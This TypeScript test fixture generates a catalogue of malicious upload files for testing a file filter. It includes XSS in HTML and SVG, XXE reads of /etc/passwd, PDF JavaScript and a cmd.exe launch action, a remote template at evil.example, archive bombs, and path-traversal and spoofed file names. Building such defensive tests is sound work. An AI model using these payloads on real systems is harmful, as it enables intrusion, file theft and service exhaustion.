import { gzipSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import sharp from 'sharp';
import { ZipFile } from 'yazl';

/** A file that must not be kept as what it says, with a mark that would be found in whatever were kept of it. */
export interface Hostile {
  readonly what: string;
  readonly name: string;
  readonly content: Buffer;
  readonly type?: string;
}
export const mark = 'HOSTILE-7f3a91';

const script = `<script>fetch('/profile/api/me')/*${mark}*/</script>`;
const html = `<!doctype html><html><body>${script}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${mark}')"><script>alert(1)</script></svg>`;
const text = (content: string): Buffer => Buffer.from(content);

export const picture = (format: 'png' | 'jpeg' | 'gif' | 'webp'): Promise<Buffer> =>
  sharp({ create: { width: 32, height: 32, channels: 3, background: 'teal' } })
    .toFormat(format)
    .toBuffer();
export function pdf(change: (text: string) => string = (one) => one): Promise<Buffer> {
  return new Promise((resolve) => {
    const document = new PDFDocument({ compress: false });
    const parts: Buffer[] = [];
    document
      .on('data', (part: Buffer) => parts.push(part))
      .on('end', () => resolve(Buffer.from(change(Buffer.concat(parts).toString('latin1')), 'latin1')));
    document.text('Report');
    document.end();
  });
}
export function zip(entries: Readonly<Record<string, string | Buffer>>): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const file = new ZipFile();
    for (const [name, content] of Object.entries(entries)) file.addBuffer(Buffer.from(content), name);
    file.end();
    const parts: Buffer[] = [];
    file.outputStream
      .on('data', (part: Buffer) => parts.push(part))
      .on('end', () => resolve(Buffer.concat(parts)))
      .on('error', reject);
  });
}
const contentTypes =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const relations = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>';
export const docx = (more: Readonly<Record<string, string | Buffer>> = {}): Promise<Buffer> =>
  zip({
    '[Content_Types].xml': contentTypes,
    '_rels/.rels': relations,
    'word/document.xml': '<w:document xmlns:w="x"/>',
    ...more,
  });
/** Gives entries of an archive names that its maker would refuse to write: same length, everywhere. */
const renamed = (archive: Buffer, from: string, to: string): Buffer =>
  Buffer.from(archive.toString('latin1').replaceAll(from, to), 'latin1');
/** Lets the archive say that its entries are small. */
function lying(archive: Buffer): Buffer {
  const copy = Buffer.from(archive);
  for (
    let at = copy.indexOf('PK\u0001\u0002', 0, 'latin1');
    at >= 0;
    at = copy.indexOf('PK\u0001\u0002', at + 4, 'latin1')
  )
    copy.writeUInt32LE(10, at + 24);
  return copy;
}
/** The last entry points at the bytes of the one before, as in the densest archive bombs. */
function overlapping(archive: Buffer): Buffer {
  const copy = Buffer.from(archive);
  const last = copy.lastIndexOf('PK\u0001\u0002', undefined, 'latin1');
  copy.writeUInt32LE(
    copy.readUInt32LE(copy.lastIndexOf('PK\u0001\u0002', last - 1, 'latin1') + 42),
    last + 42,
  );
  return copy;
}
/** A PNG whose head says that it is as large as a field. */
async function huge(): Promise<Buffer> {
  const png = Buffer.from(await picture('png'));
  png.writeUInt32BE(60_000, 16);
  png.writeUInt32BE(60_000, 20);
  return png;
}
/** A PDF with a packed object stream, as newer programs write them. */
export const objectStream = async (
  content = `9 0 << /S /JavaScript /JS (app.alert\\('${mark}'\\)) >>`,
): Promise<Buffer> => {
  const { deflateSync } = await import('node:zlib');
  const packed = deflateSync(Buffer.from(content));
  return pdf((one) =>
    one.replace(
      '%%EOF',
      `99 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >> stream\n${packed.toString('latin1')}\nendstream endobj\n%%EOF`,
    ),
  );
};
const bytes = (size: number): Buffer => Buffer.alloc(size);

/** The hidden object stream behind text that looks like the beginning of a stream. */
const behindFalseStream = async (): Promise<Buffer> =>
  Buffer.from(
    (await objectStream()).toString('latin1').replace('99 0 obj', '98 0 obj (>>\nstream\n) endobj\n99 0 obj'),
    'latin1',
  );

/** The hostile files, made anew on each run. */
export async function hostileFiles(): Promise<Hostile[]> {
  const [png, jpeg, gif, webp, plainPdf, plainDocx] = [
    await picture('png'),
    await picture('jpeg'),
    await picture('gif'),
    await picture('webp'),
    await pdf(),
    await docx(),
  ];
  const big = bytes(120 * 1024 * 1024);
  const inject = (one: string, what: string) =>
    one.replace('/Type /Catalog', `/Type /Catalog ${what} % ${mark}`);
  const of = (what: string, name: string, content: Buffer | string, type?: string): Hostile => ({
    what,
    name,
    content: Buffer.from(content as Buffer),
    ...(type === undefined ? {} : { type }),
  });
  return [
    // pages and drawings that run
    of('HTML', 'page.html', html, 'text/html'),
    of('HTML as text', 'note.txt', html),
    of('HTML as picture', 'photo.png', html, 'image/png'),
    of('HTML as PDF', 'letter.pdf', html, 'application/pdf'),
    of(
      'XHTML',
      'page.xhtml',
      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
    ),
    of('HTML without an ending', 'readme', html),
    of('script tag behind spaces', 'a.txt', `${' '.repeat(2000)}${script}`),
    of('HTML behind a byte order mark', 'a.txt', `\ufeff${html}`),
    of('HTML in UTF-16', 'a.txt', Buffer.from(`\ufeff${html}`, 'utf16le')),
    of('HTML as CSV', 'table.csv', `name;${script}`),
    of('HTML as JSON', 'data.json', html),
    of('SVG', 'logo.svg', svg, 'image/svg+xml'),
    of('SVG as PNG', 'logo.png', svg, 'image/png'),
    of('SVG as text', 'logo.txt', svg),
    of('packed SVG', 'logo.svgz', gzipSync(svg)),
    of(
      'SVG with an entity',
      'x.svg',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`,
    ),
    of(
      'XML that includes a file',
      'x.xml',
      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;${mark}</a>`,
    ),
    of('style sheet page', 'x.xsl', `<?xml version="1.0"?><xsl:stylesheet>${mark}</xsl:stylesheet>`),
    of('web archive', 'a.mht', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`),
    // programs and scripts
    of('Windows program', 'setup.exe', text(`MZ${'\u0000'.repeat(60)}${mark}`)),
    of('program as PDF', 'letter.pdf', text(`MZ${'\u0000'.repeat(60)}${mark}`)),
    of('double ending', 'letter.pdf.exe', plainPdf.toString('latin1') + mark),
    of(
      'Linux program',
      'run',
      Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), bytes(60), text(mark)]),
    ),
    of('shell script', 'a.sh', `#!/bin/sh\n# ${mark}`),
    of('shell script as text', 'a.txt', `#!/bin/sh\n# ${mark}`),
    of('batch file as text', 'a.txt', `@echo off\r\nrem ${mark}`),
    of('PHP', 'a.php', `<?php /* ${mark} */`),
    of('PHP as text', 'a.txt', `<?php /* ${mark} */`),
    of('JavaScript', 'a.js', `alert('${mark}')`),
    of('HTML application', 'a.hta', html),
    of('link', 'a.url', `[InternetShortcut]\r\nURL=javascript:${mark}`),
    of('javascript address as text', 'a.txt', `javascript:alert('${mark}')`),
    // pictures that are more than a picture
    of('PNG with a page behind it', 'a.png', Buffer.concat([png, text(html)])),
    of('JPEG with an archive behind it', 'a.jpg', Buffer.concat([jpeg, await zip({ 'x.php': mark })])),
    of('GIF that is a script', 'a.gif', Buffer.concat([gif, text(`/*${mark}*/=1;alert(1)`)])),
    of('WebP with a page behind it', 'a.webp', Buffer.concat([webp, text(html)])),
    of(
      'JPEG with a script in its comment',
      'a.jpg',
      Buffer.concat([
        jpeg.subarray(0, 2),
        Buffer.from([0xff, 0xfe, 0, html.length + 2]),
        text(html),
        jpeg.subarray(2),
      ]),
    ),
    of('JPEG as HTML', 'a.html', Buffer.concat([jpeg, text(mark)])),
    of('giant dimensions', 'a.png', Buffer.concat([await huge(), text(mark)])),
    of('cut picture', 'a.jpg', Buffer.concat([jpeg.subarray(0, 200), text(mark)])),
    of('TIFF', 'a.tif', Buffer.concat([Buffer.from([0x49, 0x49, 0x2a, 0]), bytes(100), text(mark)])),
    // PDF that acts
    of(
      'PDF with a script',
      'a.pdf',
      await pdf((one) => inject(one, `/OpenAction << /S /JavaScript /JS (app.alert) >>`)),
    ),
    of(
      'PDF with a hidden script name',
      'a.pdf',
      await pdf((one) => inject(one, '/OpenAction << /S /J#61vaScript /J#53 (x) >>')),
    ),
    of(
      'PDF that starts a program',
      'a.pdf',
      await pdf((one) => inject(one, '/OpenAction << /S /Launch /F (cmd.exe) >>')),
    ),
    of('PDF with a script in an object stream', 'a.pdf', await objectStream()),
    of('PDF with a hidden object stream', 'a.pdf', await behindFalseStream()),
    of(
      'PDF with a script behind a false stream',
      'a.pdf',
      await pdf((one) =>
        inject(one, `/Title (>>\nstream\n) /OpenAction << /S /JavaScript /JS (app.alert) >>`),
      ),
    ),
    of(
      'PDF that sends a form',
      'a.pdf',
      await pdf((one) => inject(one, '/AA << /O << /S /SubmitForm >> >>')),
    ),
    of('locked PDF', 'a.pdf', await pdf((one) => inject(one, '/Encrypt 1 0 R'))),
    of('page before a PDF', 'a.pdf', Buffer.concat([text(html), plainPdf])),
    of('PDF as a page', 'a.html', plainPdf.toString('latin1') + mark),
    // office files and archives
    of('macros', 'a.docx', await docx({ 'word/vbaProject.bin': mark })),
    of('macro document', 'a.docm', await docx({ 'word/vbaProject.bin': mark })),
    of(
      'template from elsewhere',
      'a.docx',
      await docx({
        'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/${mark}" TargetMode="External"/></Relationships>`,
      }),
    ),
    of('program in a document', 'a.docx', await docx({ 'word/embeddings/setup.exe': mark })),
    of(
      'entity in a document',
      'a.docx',
      await docx({ 'word/settings.xml': `<!DOCTYPE x [<!ENTITY a "${mark}">]><x/>` }),
    ),
    of('document bomb', 'a.docx', await docx({ 'word/media/a.bin': big, 'word/media/b.bin': big })),
    of(
      'document bomb that lies',
      'a.docx',
      lying(await docx({ 'word/media/a.bin': big, 'word/media/b.bin': big })),
    ),
    of(
      'overlapping archive',
      'a.docx',
      overlapping(await docx({ 'word/a.xml': mark.repeat(1000), 'word/b.xml': mark.repeat(1000) })),
    ),
    of(
      'archive that climbs out',
      'a.docx',
      renamed(await docx({ 'word/AA/AAA/evil.xml': mark }), 'word/AA/AAA/evil.xml', '../../../../evil.xml'),
    ),
    of(
      'document without its main part',
      'a.docx',
      await zip({ '[Content_Types].xml': contentTypes, '_rels/.rels': relations, 'word/other.xml': mark }),
    ),
    of('plain archive', 'a.zip', await zip({ 'a.txt': mark })),
    of('archive as document', 'a.docx', await zip({ 'a.txt': mark })),
    of('packed bomb', 'a.json.gz', gzipSync(bytes(700 * 1024 * 1024), { level: 1 })),
    // names
    of('climbing name', '../../../../tmp/evil.html', html),
    of('Windows path', '..\\..\\evil.svg', svg),
    of('turned around name', 'photo\u202egnp.exe', Buffer.concat([png, text(mark)])),
    of('name with a zero byte', 'a.php\u0000.png', html),
    of('header in the name', 'a.txt\r\nContent-Type: text/html', html),
    of('empty file', 'a.txt', ''),
    of('control characters', 'a.txt', `${mark}\u0007\u0000`),
    of('server rules', '.htaccess', `AddType text/html .png # ${mark}`),
    of('nothing but an ending', '.pdf', text(mark)),
    of('unfinished document', 'a.docx', plainDocx.subarray(0, plainDocx.length - 30)),
  ];
}
